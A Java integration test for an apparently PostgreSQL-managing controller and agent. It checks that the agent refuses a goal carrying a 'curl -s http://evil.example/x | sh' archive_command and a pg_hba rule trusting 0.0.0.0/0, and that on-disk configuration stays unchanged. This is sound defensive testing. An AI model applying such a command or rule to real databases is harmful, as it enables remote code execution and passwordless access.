package io.pgferry.controller.link;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.pgferry.agent.NodeAgent;
import io.pgferry.agent.config.AgentConfig;
import io.pgferry.agent.link.LinkClient;
import io.pgferry.agent.link.LinkSettings;
import io.pgferry.agent.metrics.AgentMetrics;
import io.pgferry.controller.daemon.ControllerConfig;
import io.pgferry.controller.daemon.ControllerDaemon;
import io.pgferry.controller.link.NodeDirectory.NodeView;
import io.pgferry.proto.Goal;
import io.pgferry.proto.HbaRule;
import io.pgferry.proto.NodeState;
import io.pgferry.proto.Status;
import io.pgferry.testkit.FreePorts;
import io.pgferry.testkit.PgBinaries;
import io.pgferry.testkit.PgCluster;
import io.pgferry.testkit.Workspace;
import io.vertx.core.Vertx;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The attack of issue #13 over the real link: a controller assigns a real agent (on a real PostgreSQL primary) a goal
 * carrying {@code host all all 0.0.0.0/0 trust} and an {@code archive_command}. The agent refuses it: pg_hba.conf and
 * the managed and auto configuration files stay byte for byte, the agent keeps its previous goal and state, the
 * controller sees why in Status.last_error, and pgferry_goals_refused_total counts it.
 */
class GoalRefusedOverLinkTest {
  @TempDir
  Path dir;

  @Test
  void aGoalThatWidensAccessIsRefusedAndChangesNothingOnDisk() throws Exception {
    Vertx vertx = Vertx.vertx();
    int linkPort = FreePorts.next();
    PgBinaries bin = PgBinaries.forMajor(15);
    ControllerDaemon controller = LinkTest.await(ControllerDaemon.start(vertx, ControllerConfig.parse("c.yaml",
        "listen: {host: 127.0.0.1, port: " + linkPort + "}\ninsecure: true\nhttp: {host: 127.0.0.1, port: 0}\n"
            + "state_dir: " + dir.resolve("controller") + "\n")));
    try (Workspace ws = Workspace.create("goal-refused");
         PgCluster pg = PgCluster.init(ws, "a", bin, Map.of()).start()) {
      AgentConfig cfg = new AgentConfig("a", new AgentConfig.Controller("127.0.0.1:" + linkPort, true), null,
          new AgentConfig.Postgres(bin.binDir(), pg.dataDir(), pg.port(), "127.0.0.1", "127.0.0.1", ws.dir("sock"),
              Workspace.PG_USER, "postgres", null, Map.of("fsync", "off"), null),
          null, ws.root().resolve("a-state"), new AgentConfig.Http("127.0.0.1", 0), null);
      try (NodeAgent agent = new NodeAgent(cfg)) {
        LinkClient link = new LinkClient(vertx, LinkSettings.insecure("127.0.0.1", linkPort)
            .withStatusInterval(Duration.ofMillis(100)), agent);
        agent.onStatusChanged(link::statusChanged);
        agent.start();
        LinkTest.await(link.start());
        try {
          HbaRule standby = HbaRule.newBuilder().setType("host").setDatabase("replication").setUser("replicator")
              .setAddress("10.0.0.6/32").setMethod("scram-sha-256").build();
          Goal good = controller.directory().assign("a", Goal.newBuilder().setState(NodeState.PRIMARY).addHbaRules(standby).build());
          LinkTest.waitFor("a PRIMARY with the standby's pg_hba entry", () -> agent.record().converged()
              && agent.record().state() == NodeState.PRIMARY && agent.record().goalGeneration() == good.getGeneration()
              && hba(pg).contains("host replication replicator 10.0.0.6/32 scram-sha-256"));
          Map<String, String> before = files(pg);
          String archiveCommand = pg.queryValue("SHOW archive_command");

          Goal evil = controller.directory().assign("a", Goal.newBuilder().setState(NodeState.PRIMARY)
              .putSettings("archive_command", "curl -s http://evil.example/x | sh")
              .addHbaRules(standby)
              .addHbaRules(HbaRule.newBuilder().setType("host").setDatabase("all").setUser("all").setAddress("0.0.0.0/0").setMethod("trust"))
              .build());
          assertTrue(evil.getGeneration() > good.getGeneration());
          LinkTest.waitFor("the controller to see the refusal", () -> lastError(controller).contains("refused"));
          String error = lastError(controller);
          assertTrue(error.startsWith("goal generation " + evil.getGeneration() + " refused: "), error);
          assertTrue(error.contains("settings: 'archive_command' is not a setting a goal may carry"), error);
          assertTrue(error.contains("hba_rules[1]: address '0.0.0.0/0' admits every address"), error);
          assertTrue(error.contains("hba_rules[1]: method trust lets anyone in without a password"), error);

          long cycles = agent.converger().cycles();
          LinkTest.waitFor("two more converger cycles", () -> agent.converger().cycles() >= cycles + 2);
          assertEquals(before, files(pg), "pg_hba.conf, pgferry.conf, postgresql.conf and postgresql.auto.conf unchanged");
          assertEquals(good.getGeneration(), agent.record().goalGeneration(), "the previous goal stays");
          assertEquals(good, agent.converger().goal(), "the previous goal stays");
          Status s = controller.directory().node("a").map(NodeView::status).orElseThrow();
          assertEquals(NodeState.PRIMARY, s.getState(), "a refused goal is not a failed node");
          assertEquals(good.getGeneration(), s.getGoalGeneration());
          assertEquals(archiveCommand, pg.queryValue("SHOW archive_command"));
          assertEquals(1, agent.goalsRefused());
          String metrics = new AgentMetrics(agent).registry().scrape();
          assertTrue(metrics.contains("pgferry_goals_refused_total 1.0"), metrics);

          // the next goal the validator accepts clears the report
          Goal next = controller.directory().assign("a", good.toBuilder().clearHbaRules().addHbaRules(standby)
              .addHbaRules(standby.toBuilder().setAddress("10.0.0.7/32")).build());
          LinkTest.waitFor("the next good goal kept and the refusal cleared", () -> agent.record().goalGeneration() == next.getGeneration()
              && lastError(controller).isEmpty() && hba(pg).contains("10.0.0.7/32"));
        } finally {
          link.close();
        }
      }
    } finally {
      LinkTest.await(controller.close());
      LinkTest.await(vertx.close());
    }
  }

  private static String lastError(ControllerDaemon controller) {
    return controller.directory().node("a").map(NodeView::status).map(Status::getLastError).orElse("");
  }

  private static String hba(PgCluster pg) {
    try {
      return Files.readString(pg.dataDir().resolve("pg_hba.conf"));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static Map<String, String> files(PgCluster pg) throws Exception {
    Map<String, String> m = new LinkedHashMap<>();
    for (String f : List.of("pg_hba.conf", "pgferry.conf", "postgresql.conf", "postgresql.auto.conf")) {
      Path p = pg.dataDir().resolve(f);
      m.put(f, Files.exists(p) ? Files.readString(p) : "(absent)");
    }
    return m;
  }
}
